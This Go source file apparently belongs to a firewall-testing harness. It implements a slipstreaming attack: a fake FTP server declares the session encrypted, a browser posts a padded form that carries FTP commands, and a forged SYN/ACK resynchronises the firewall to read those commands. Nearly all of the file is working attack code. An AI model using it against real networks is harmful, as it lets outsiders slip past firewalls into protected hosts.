package attack

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"strings"

	"github.com/gopacket/gopacket/layers"
)

// browserPort is the port of the client that is made to send a form to a hostile server.
// It lies below those that the kernel hands out.
const browserPort = 19901

// slip plays a hostile server without a kernel, and a browser with one. The server says
// that the dialogue is encrypted from now on, which makes firewalls stop reading, lets the
// form come up to where a line of it reads as a command, and forges a SYN/ACK that begins
// the connection anew there, which is far enough from what was read. Its window makes the
// rest come line by line.
func slip(ctx context.Context, s *scene) (cell Cell, err error) {
	client, server := netip.AddrPortFrom(s.Client.IPv4, browserPort), netip.AddrPortFrom(s.Server.IPv4, 21)
	s.control = client
	p, err := newPuppet(ctx, s.Server, server, client)
	if err != nil {
		return cell, err
	}
	defer func() { err = errors.Join(err, p.close()) }()
	rest := strings.Repeat("unread\r\n", farAway/len("unread\r\n"))
	form := rest
	for line := range strings.Lines(s.script) {
		if command, ok := strings.CutPrefix(strings.TrimSpace(line), "C: "); ok {
			form += command + "\r\n"
		}
	}
	head := fmt.Sprintf("POST / HTTP/1.1\r\nHost: %v\r\nContent-Length: %d\r\n\r\n", server, len(form))
	posting := make(chan net.Conn, 1)
	go s.post(ctx, client, server, head+form, posting)
	played := func() error {
		if err := p.accept(ctx); err != nil {
			return err
		}
		for _, reply := range []string{"220 hello\r\n", "234 go on\r\n"} {
			if err := p.say(ctx, reply); err != nil {
				return err
			}
		}
		if err := p.admit(ctx, len(head+rest)); err != nil {
			return err
		}
		if err := p.segment(layers.TCP{Seq: p.next - 1, Ack: p.want, SYN: true, ACK: true}, ""); err != nil {
			return err
		}
		if err := sleep(ctx, onItsWay); err != nil {
			return err
		}
		return p.play(ctx, s.script)
	}
	stuck := played()
	if browser := <-posting; browser != nil {
		s.atEnd(func() {
			_ = browser.(*net.TCPConn).SetLinger(0)
			browser.Close()
		})
	}
	return s.tryAfter(ctx, stuck)
}

// farAway is more than any window.
const farAway = 1<<20 + 1<<18

// play says the server's lines of a script, and lets the client's come.
func (p *puppet) play(ctx context.Context, script string) error {
	for line := range strings.Lines(script) {
		who, text, said := strings.Cut(strings.TrimSpace(line), ": ")
		switch {
		case !said:
			continue
		case who == "S":
			if err := p.say(ctx, text+"\r\n"); err != nil {
				return err
			}
		default:
			if err := p.admit(ctx, len(text+"\r\n")); err != nil {
				return err
			}
		}
	}
	return nil
}

// post connects, hands the connection over, or nil where there is none, and sends a form
// as far as it gets.
func (s *scene) post(ctx context.Context, from, to netip.AddrPort, form string, posting chan<- net.Conn) {
	ctx, cancel := context.WithTimeout(ctx, arrival)
	defer cancel()
	conn, err := s.Client.DialFrom(ctx, from, "tcp", to.String())
	if err != nil {
		posting <- nil
		return
	}
	posting <- conn
	_, _ = conn.Write([]byte(form))
}
